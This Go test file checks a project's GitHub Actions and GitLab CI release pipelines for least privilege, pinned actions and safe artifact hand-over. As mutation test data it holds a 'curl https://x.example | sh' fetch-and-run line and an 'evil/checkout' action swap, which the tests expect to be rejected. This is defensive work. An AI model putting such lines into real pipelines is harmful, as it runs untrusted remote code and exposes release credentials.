package workflows

import (
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// steps are those of a release, in order, and sharded those that run on several
// machines.
var (
	steps   = []string{"plan", "build", "audit", "assemble", "sign", "publish", "verify"}
	sharded = []string{"build", "audit"}
)

// shards is how many there are: each has an output of its own in both files.
const shards = 2

// The permissions of every job. What is not here a job does not have.
var (
	ciPermissions      = map[string]map[string]string{"ci": {"contents": "read"}}
	releasePermissions = map[string]map[string]string{
		"plan":     {"contents": "read"},
		"build":    {"contents": "read"},
		"audit":    {"contents": "read"},
		"assemble": {"contents": "read"},
		"sign":     {"contents": "read", "id-token": "write"},
		"publish":  {"contents": "read", "packages": "write"},
		"verify":   {"contents": "read"},
	}
)

// handedOver says whose files a job takes beside the plan. It gives all their digests
// to its step, and the plan's.
var handedOver = map[string][]string{
	"build": {}, "audit": {"build"}, "assemble": {"build", "audit"}, "sign": {"assemble"}, "publish": {"sign"},
}

// namespaces is the one step that GitHub's machines need and others do not.
const namespaces = `set -eu
if [ -e /proc/sys/kernel/apparmor_restrict_unprivileged_userns ]; then
  sudo sysctl -q -w kernel.apparmor_restrict_unprivileged_userns=0
fi
`

// files are what is checked: by name, as they are or changed for a test.
type files struct{ ci, release, gitlab string }

func read(t *testing.T) files {
	t.Helper()
	text := func(name string) string {
		data, err := os.ReadFile(filepath.Join("..", "..", "..", filepath.FromSlash(name)))
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	return files{text(".github/workflows/ci.yml"), text(".github/workflows/release.yml"), text(".gitlab-ci.yml")}
}

// broken is everything that is wrong.
func (f files) broken() (why []string) {
	ci, found := readWorkflow([]byte(f.ci), ciPermissions)
	why = append(why, found...)
	if keys := slices.Sorted(maps.Keys(ci.On)); !slices.Equal(keys, []string{"pull_request", "push"}) {
		why = append(why, fmt.Sprintf("ci runs on %v", keys))
	}
	if len(ci.Env) > 0 || strings.Contains(f.ci, "secrets") {
		why = append(why, "ci has secrets or settings")
	}
	release, found := readWorkflow([]byte(f.release), releasePermissions)
	why = append(why, found...)
	if keys := slices.Sorted(maps.Keys(release.On)); !slices.Equal(keys, []string{"push"}) || release.Concurrency.Cancel == nil || *release.Concurrency.Cancel {
		why = append(why, fmt.Sprintf("release runs on %v, or is cancelled by another", keys))
	}
	if n := strings.Count(f.release, "secrets."); n != 1 {
		why = append(why, fmt.Sprintf("release names %d secrets", n))
	}
	gitlab, found := readPipeline([]byte(f.gitlab))
	why = append(why, found...)
	for _, name := range steps {
		why = append(why, compare(name, release.Jobs[name], gitlab.Jobs[name])...)
		why = append(why, release.brokenHandOver(name)...)
		why = append(why, gitlab.brokenHandOver(name)...)
	}
	return why
}

// compare holds the commands of one step on both platforms against each other.
func compare(name string, a job, b gitlabJob) (why []string) {
	var runs []string
	for _, s := range a.Steps {
		if s.Run != "" && s.Run != namespaces {
			runs = append(runs, strings.ReplaceAll(s.Run, `"$GITHUB_OUTPUT"`, "outputs.env"))
		}
	}
	if !slices.Equal(runs, b.Script) {
		why = append(why, fmt.Sprintf("the commands of %s are not the same:\n%q\n%q", name, runs, b.Script))
	}
	for _, run := range runs {
		for line := range strings.Lines(run) {
			if !mages.MatchString(line) && !slices.Contains(others[name], strings.TrimSpace(line)) {
				why = append(why, fmt.Sprintf("%s runs %s", name, line))
			}
		}
		if n := strings.Count(run, "go tool mage release:"+name+" "); n != 1 {
			why = append(why, fmt.Sprintf("%s calls its step %d times", name, n))
		}
	}
	needs := slices.Sorted(slices.Values(a.Needs))
	if !slices.Equal(needs, slices.Sorted(slices.Values(b.Needs))) {
		why = append(why, fmt.Sprintf("%s needs %v, and %v on GitLab", name, needs, b.Needs))
	}
	// On GitLab a job has the files and the variables of all that it needs, wanted or
	// not: of those that run code of upstream the signer's must be none.
	if from, ok := handedOver[name]; ok && !slices.Equal(needs, slices.Sorted(slices.Values(append([]string{"plan"}, from...)))) {
		why = append(why, fmt.Sprintf("%s needs %v, not the plan and %v", name, needs, from))
	}
	return why
}

// Every value in a command is a variable in quotes, or a word.
var mages = regexp.MustCompile(`^(set -eu|go tool mage release:[a-z]+( -[a-z]+=("[$a-z0-9_,={}#A-Z]+"|[a-z0-9/]+))*( >>outputs\.env)?)\n$`)

// others are the lines that are no target, by the job that has them.
var others = map[string][]string{"plan": {
	`previous=-registry=$REGISTRY`,
	`if [ "${FIRST:-}" = yes ]; then previous=-first; fi`,
	`go tool mage release:plan -tag="$tag" -shards=2 "$previous" -output=env >>outputs.env`,
}, "publish": {
	`auth=$(printf '%s:%s' "$REGISTRY_USER" "$REGISTRY_PASSWORD" | base64 | tr -d '\n')`,
	`export DOCKER_AUTH_CONFIG="{\"auths\":{\"${REGISTRY%%/*}\":{\"auth\":\"$auth\"}}}"`,
	`unset REGISTRY_USER REGISTRY_PASSWORD auth`,
	`first=false`,
	`if [ "${FIRST:-}" = yes ]; then first=true; fi`,
}}

// digests are what a command of a job has to hand over: each variable under its own
// key.
func digests(name string) []string {
	all := []string{"plan=$plan"}
	for _, from := range handedOver[name] {
		if !slices.Contains(sharded, from) {
			all = append(all, fmt.Sprintf("%[1]s=$%[1]s", from))
			continue
		}
		for n := range shards {
			all = append(all, fmt.Sprintf("%[1]s_%[2]d=$%[1]s_%[2]d", from, n+1))
		}
	}
	return all
}

// brokenCommand says whether what a job takes is held against digests.
func brokenCommand(name, run string) (why []string) {
	_, takes := handedOver[name]
	if want := digests(name); takes && !strings.Contains(run, ` -digests="`+strings.Join(want, ",")+`" `) {
		why = append(why, fmt.Sprintf("%s takes any file, not those of %v: %s", name, want, run))
	}
	return why
}

func (w workflow) brokenHandOver(name string) (why []string) {
	say := func(format string, args ...any) { why = append(why, name+" "+fmt.Sprintf(format, args...)) }
	j := w.Jobs[name]
	var got []string
	for i, s := range j.Steps {
		switch action, _, _ := strings.Cut(s.Uses.use, "@"); {
		case action == "actions/download-artifact":
			got = append(got, s.With["name"]+s.With["pattern"])
			if want := map[bool]string{true: "release", false: "release/out"}[s.With["name"] == "plan"]; s.With["path"] != want {
				say("puts %v into %s", s.With, s.With["path"])
			}
		case action == "actions/upload-artifact":
			file := "release/out/" + s.With["name"] + ".tar"
			if name == "plan" {
				file = "release/plan.json\nrelease/before/\n"
			}
			want := map[string]string{"name": s.With["name"], "path": file, "if-no-files-found": "error", "overwrite": "true"}
			if called := strings.TrimSuffix(s.With["name"], "-${{ matrix.name }}"); called != name || !maps.Equal(s.With, want) || i != len(j.Steps)-1 {
				say("hands over %v", s.With)
			}
		case s.Run != "" && s.Run != namespaces:
			why = append(why, brokenCommand(name, s.Run)...)
			for key, value := range s.Env {
				if m := regexp.MustCompile(`^\$\{\{ needs\.([a-z]+)\.outputs\.([a-z0-9_]+) \}\}$`).FindStringSubmatch(value); m != nil && m[2] != key {
					say("calls %s %s", value, key)
				}
			}
		}
	}
	var want []string
	if _, takes := handedOver[name]; takes {
		want = append(want, "plan")
	}
	for _, from := range handedOver[name] {
		switch {
		case !slices.Contains(sharded, from):
			want = append(want, from)
		case slices.Contains(sharded, name): // its own shard alone
			want = append(want, from+"-${{ matrix.name }}")
		default:
			want = append(want, from+"-*")
		}
	}
	if !slices.Equal(got, want) {
		say("takes %v, not %v", got, want)
	}
	return why
}

func (p pipeline) brokenHandOver(name string) (why []string) {
	j := p.Jobs[name]
	for _, run := range j.Script {
		why = append(why, brokenCommand(name, run)...)
	}
	var want []string
	switch {
	case name == "plan":
		want = []string{"release/plan.json", "release/before/"}
	case slices.Contains(sharded, name):
		want = []string{"release/out/" + name + "-*.tar"}
	case name == "assemble", name == "sign":
		want = []string{"release/out/" + name + ".tar"}
	}
	reports := map[string]string{"dotenv": "outputs.env"}
	if name == "publish" || name == "verify" {
		reports = nil
	}
	if !slices.Equal(j.Artifacts.Paths, want) || !maps.Equal(j.Artifacts.Reports, reports) {
		why = append(why, fmt.Sprintf("%s hands over %v on GitLab", name, j.Artifacts))
	}
	return why
}

func TestFiles(t *testing.T) {
	for _, problem := range read(t).broken() {
		t.Error(problem)
	}
}

// The test sees what it is there to see.
func TestRefuses(t *testing.T) {
	const checkout = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
	whole := read(t)
	for _, tt := range []struct{ file, old, new, want string }{
		{"release", checkout, "actions/checkout@v7", "not pinned by its commit"},
		{"release", checkout, "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.0", "not on the list"},
		{"release", checkout, "actions/checkout@4d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "not on the list"},
		{"release", checkout, "evil/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "not on the list"},
		{"release", "persist-credentials: false", "persist-credentials: true", "keeps no credentials"},
		{"release", "          persist-credentials: false\n", "          persist-credentials: false\n          fetch-depth: 0\n", "keeps no credentials"},
		{"release", "      packages: write\n", "      packages: write\n      id-token: write\n", "publish has the permissions"},
		{"release", "    permissions:\n      contents: read\n    strategy", "    permissions:\n      contents: write\n    strategy", "build has the permissions"},
		{"release", "    permissions:\n      contents: read\n    strategy", "    strategy", "build has the permissions"},
		{"release", "permissions: {}", "permissions:\n  contents: read", "does not have none"},
		{"release", "permissions: {}", "permissions: write-all", "cannot unmarshal"},
		{"release", `-tag="$tag"`, `-tag="${{ github.ref_name }}"`, "an expression in a command"},
		{"release", "${{ matrix.shard }}", "${{ secrets.GITHUB_TOKEN }}", "build uses ${{ secrets.GITHUB_TOKEN }}"},
		{"release", "tag: ${{ github.ref_name }}", "tag: ${{ github.event.head_commit.message }}", "plan uses ${{ github.event.head_commit.message }}"},
		{"release", "REGISTRY: ${{ vars.REGISTRY }}", "REGISTRY: ${{ secrets.REGISTRY }}", "names 2 secrets"},
		{"release", "    timeout-minutes: 120\n", "", "build may run for 0 minutes"},
		{"release", "    timeout-minutes: 120\n", "    timeout-minutes: 360\n", "build may run for 360 minutes"},
		{"release", "  cancel-in-progress: false\n", "", "how often it runs"},
		{"release", "  cancel-in-progress: false\n", "  cancel-in-progress: true\n", "is cancelled by another"},
		{"release", "runs-on: ${{ matrix.runner }}", "runs-on: self-hosted", "build runs on self-hosted"},
		{"release", "          set -eu\n          go tool mage release:build", "          go tool mage release:build", "goes on after a failure"},
		{"release", "          set -eu\n          go tool mage release:build", "          set -eu\n          curl https://x.example | sh\n          go tool mage release:build", "build runs curl"},
		{"release", ` -digests="plan=$plan,assemble=$assemble"`, "", "sign takes any file"},
		{"release", ` -digests="plan=$plan,build_1=$build_1,build_2=$build_2"`, ` -digests="plan=$plan,build_1=$build_1"`, "audit takes any file"},
		{"release", `,build_2=$build_2"`, `,build_2=$build_1"`, "audit takes any file"},
		{"release", ` -digests="plan=$plan,sign=$sign"`, ` -digests="sign=$sign"`, "publish takes any file"},
		{"release", "build_1: ${{ needs.build.outputs.build_1 }}", "build_1: ${{ needs.build.outputs.build_2 }}", "calls ${{ needs.build.outputs.build_2 }} build_1"},
		{"release", "assemble: ${{ needs.assemble.outputs.assemble }}", "assemble: ${{ needs.build.outputs.build_1 }}", "no job has that it needs"},
		{"release", "name: build-${{ matrix.name }}\n          path: release/out\n", "pattern: build-*\n          path: release/out\n          merge-multiple: true\n", "audit takes"},
		{"release", "path: release/out/sign.tar", "path: .", "sign hands over"},
		{"release", "  verify:\n", "  more:\n", "its jobs are"},
		{"release", "    needs: plan\n", "    needs: plan\n    continue-on-error: true\n", "continue-on-error"},
		{"release", "  push:\n", "  pull_request_target:\n  push:\n", "release runs on"},
		{"release", "  push:\n", "  workflow_call:\n  push:\n", "release runs on"},
		{"ci", "      contents: read\n", "      contents: read\n      id-token: write\n", "ci has the permissions"},
		{"ci", "  pull_request:\n", "  pull_request_target:\n", "ci runs on"},
		{"ci", "group: ci-${{ github.ref }}", "group: ci-${{ github.head_ref }}", "uses ${{ github.head_ref }}"},
		{"gitlab", "  stage: build\n", "  stage: build\n  id_tokens:\n    SIGSTORE_ID_TOKEN:\n      aud: sigstore\n", "build has the tokens"},
		{"gitlab", "      aud: sigstore\n", "      aud: [sigstore, other]\n", "cannot unmarshal"},
		{"gitlab", "      aud: sigstore\n", "      aud: other\n", "sign has the tokens"},
		{"gitlab", "  stage: build\n", "  stage: build\n  environment: release\n", "build is of the environment"},
		{"gitlab", "  stage: build\n", "  stage: build\n  image: golang\n", "field image not found"},
		{"gitlab", "stages:", "include: other.yml\nstages:", "cannot unmarshal"},
		{"gitlab", "  timeout: 2h\n", "  timeout: 20h\n", "build is in stage"},
		{"gitlab", "  timeout: 2h\n", "", "build is in stage"},
		{"gitlab", "  parallel: 2\n", "  parallel: 3\n", "build runs on 3 machines"},
		{"gitlab", "-shards=2", "-shards=3", "the commands of plan are not the same"},
		{"gitlab", `-digests="plan=$plan,sign=$sign"`, `-digests="plan=$plan,sign=$assemble"`, "publish takes any file"},
		{"gitlab", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble plan], and [plan build assemble] on GitLab"},
		{"both", "needs: [plan, assemble]", "needs: [plan, build, assemble]", "sign needs [assemble build plan], not the plan and [assemble]"},
		{"gitlab", "  needs: [plan, assemble]\n", "  needs: [plan, assemble]\n  dependencies: [build]\n", "field dependencies not found"},
		{"gitlab", "  resource_group: release", "  resource_group: other", "publish waits for"},
		{"gitlab", "paths: [release/out/sign.tar]", "paths: [.]", "sign hands over"},
		{"gitlab", "    - if: $CI_COMMIT_TAG\n", "    - if: $CI_COMMIT_BRANCH\n", "plan runs on"},
	} {
		f := whole
		for _, text := range map[string][]*string{"ci": {&f.ci}, "release": {&f.release}, "gitlab": {&f.gitlab}, "both": {&f.release, &f.gitlab}}[tt.file] {
			if !strings.Contains(*text, tt.old) {
				t.Errorf("%s does not hold %q", tt.file, tt.old)
			}
			*text = strings.Replace(*text, tt.old, tt.new, 1)
		}
		if why := strings.Join(f.broken(), "\n"); !strings.Contains(why, tt.want) {
			t.Errorf("%s with %q: want %s, got\n%s", tt.file, tt.new, tt.want, why)
		}
	}
}

// What is run is for any shell, and shellcheck has nothing to say of it where it is
// installed.
func TestShell(t *testing.T) {
	f := read(t)
	var scripts []string
	for _, text := range []string{f.ci, f.release} {
		var w workflow
		if err := strict([]byte(text), &w); err != nil {
			t.Fatal(err)
		}
		for _, j := range w.Jobs {
			for _, s := range j.Steps {
				if s.Run != "" {
					scripts = append(scripts, s.Run)
				}
			}
		}
	}
	if len(scripts) < len(steps)+2 {
		t.Fatalf("only %d scripts", len(scripts))
	}
	program, err := exec.LookPath("shellcheck")
	for _, s := range scripts {
		sh := exec.Command("sh", "-n")
		sh.Stdin = strings.NewReader(s)
		if out, err := sh.CombinedOutput(); err != nil {
			t.Errorf("%v: %s\n%s", err, out, s)
		}
		if err != nil {
			continue
		}
		// Variables come from outside: SC2154 is that nobody here sets them.
		check := exec.Command(program, "--shell=sh", "--norc", "--exclude=SC2154", "-")
		check.Stdin = strings.NewReader(s)
		if out, err := check.CombinedOutput(); err != nil {
			t.Errorf("%v: %s\n%s", err, out, s)
		}
	}
}
